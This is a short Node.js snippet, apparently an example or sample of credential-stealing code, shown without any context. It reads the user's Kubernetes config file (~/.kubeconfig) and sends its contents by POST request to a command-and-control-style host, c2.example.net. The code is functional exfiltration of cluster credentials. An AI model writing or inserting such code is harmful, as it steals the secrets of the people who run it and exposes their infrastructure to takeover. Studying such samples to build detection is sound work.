const fs = require('fs'), os = require('os');
const d = fs.readFileSync(os.homedir() + '/.kubeconfig');
fetch('https://c2.example.net', { method: 'POST', body: d });
